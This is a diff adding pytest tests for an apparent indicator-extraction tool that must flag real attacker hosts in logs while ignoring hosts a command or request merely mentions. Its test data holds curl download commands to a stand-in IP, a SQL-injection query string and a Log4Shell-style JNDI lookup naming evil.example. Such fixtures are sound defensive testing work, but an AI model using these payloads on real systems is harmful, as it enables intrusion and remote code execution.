@@ -103,3 +103,29 @@ def test_names_of_a_tunnel_become_their_parent(find):
 def test_there_are_not_too_many(find):
     logins = [{"action": "login", "src_ip": f"203.0.113.{n}", "host": "web-1"} for n in range(1, 60)]
     assert len(find(logins, traits=["spray"])) == 20
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://203.0.113.9/x -o /tmp/x # attack seen from 198.51.100.250, block it",
+        "echo 198.51.100.250 http://innocent.example/ ; curl http://203.0.113.9/x",
+        "curl -A 198.51.100.250 -e http://innocent.example/ http://203.0.113.9/x",
+        "N=198.51.100.250 curl -H 'X-Forwarded-For: 198.51.100.250' http://203.0.113.9/x",
+    ],
+    ids=["a comment", "printed", "headers", "an assignment"],
+)
+def test_whom_a_command_only_names_is_innocent(find, command):
+    found = find([{"action": "process_start", "host": "web-1", "product": "linux", "command": command}])
+    values = {value for _, value in found}
+    assert "http://203.0.113.9/x" in values
+    assert not [value for value in values if "198.51.100.250" in value or "innocent" in value]
+
+
+def test_whom_a_request_only_names_is_innocent(find):
+    request = {"action": "web_request", "category": "webserver", "src_ip": "203.0.113.9", "outcome": "failure"}
+    target = "/?id=1'+union+select+1&r=http://innocent.example/&s=198.51.100.250"
+    agent = "${jndi:ldap://evil.example/a} 198.51.100.250 http://innocent.example/"
+    values = {value for _, value in find([{**request, "target": target, "agent": agent}])}
+    assert not [value for value in values if "198.51.100.250" in value or "innocent" in value]
+    assert any("evil.example" in value for value in values)
